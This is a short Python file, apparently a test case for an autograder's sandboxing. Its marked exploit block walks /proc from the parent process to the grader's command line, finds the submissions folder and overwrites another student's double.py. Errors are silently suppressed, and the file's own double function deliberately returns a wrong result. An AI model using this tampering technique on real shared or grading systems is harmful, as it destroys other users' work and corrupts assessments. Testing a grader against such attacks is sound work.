"""Edits another student's submission."""
# exercise: double
# process: harm

import contextlib
import os
from pathlib import Path

### BEGIN EXPLOIT
with contextlib.suppress(Exception):
    judge = Path(f"/proc/{os.getppid()}/stat").read_text().rpartition(")")[2].split()[1]
    words = Path(f"/proc/{judge}/cmdline").read_text().split("\0")
    mine = Path(words[words.index("--submission") + 1])
    (mine.parent / "bob" / "exercises" / "basics" / "double.py").write_text("double = 0\n")
### END EXPLOIT


def double(x, times=1):
    return x * 3**times
